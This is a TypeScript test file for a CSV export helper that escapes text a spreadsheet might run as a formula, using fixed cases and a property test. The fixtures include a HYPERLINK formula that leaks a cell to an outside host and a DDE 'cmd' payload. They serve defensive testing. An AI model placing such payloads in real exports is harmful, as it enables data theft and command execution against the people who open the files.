import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { plainText, safeText } from '../../../src/presentation/records/csv-text.ts';

describe('words that a spreadsheet might run', () => {
  test.for([
    { why: 'a formula', text: '=1+1', field: "'=1+1" },
    {
      why: 'a link that gives away the sheet',
      text: '=HYPERLINK("http://a.vn?"&A1)',
      field: `'=HYPERLINK("http://a.vn?"&A1)`,
    },
    { why: 'a plus', text: '+84 24', field: "'+84 24" },
    { why: 'a plus before a number, which would be lost', text: '+0', field: "'+0" },
    { why: 'a command of old', text: "-2+3+cmd|' /C calc'!A0", field: "'-2+3+cmd|' /C calc'!A0" },
    { why: 'a name of a function', text: '@SUM(A1)', field: "'@SUM(A1)" },
    { why: 'a tab that a spreadsheet takes away first', text: '\t=1+1', field: "'\t=1+1" },
    { why: 'a line break that it takes away first', text: '\r\n=1+1', field: "'\r\n=1+1" },
    { why: 'full-width signs', text: '＝1+1', field: "'＝1+1" },
    { why: 'an apostrophe that stands there already', text: "'=1+1", field: "''=1+1" },
    { why: 'a dash of a list', text: '- Tối thiểu 80%', field: "'- Tối thiểu 80%" },
  ])('$why is words', ({ text, field }) => {
    expect(safeText(text)).toBe(field);
    expect(plainText(field)).toBe(text);
  });

  test.for([
    { why: 'a sign alone, as the column operator has it', text: '=' },
    { why: 'a sign alone that is no beginning', text: '>=' },
    { why: 'a number below zero', text: '-7.5' },
    { why: 'an apostrophe before words', text: "'quoted'" },
    { why: 'words', text: 'Tối thiểu 80% (= 4/5)' },
    { why: 'nothing', text: '' },
  ])('$why stays as it is', ({ text }) => {
    expect(safeText(text)).toBe(text);
    expect(plainText(text)).toBe(text);
  });
});

test('whatever is written is read again, and never begins as a formula does', () => {
  const words = fc.oneof(
    fc.string({ unit: 'grapheme' }),
    fc
      .tuple(fc.string({ unit: fc.constantFrom("'", '=', '-', '+', '@', '\t', '\n', '\r', '＝') }), fc.string())
      .map((parts) => parts.join('')),
  );
  fc.assert(
    fc.property(words, (text) => {
      const field = safeText(text);
      expect(plainText(field)).toBe(text);
      expect(field).not.toMatch(/^[=+@\t\r\n]./s);
      expect(field).not.toMatch(/^-(?!\d+(?:\.\d+)?$)./s);
    }),
  );
});
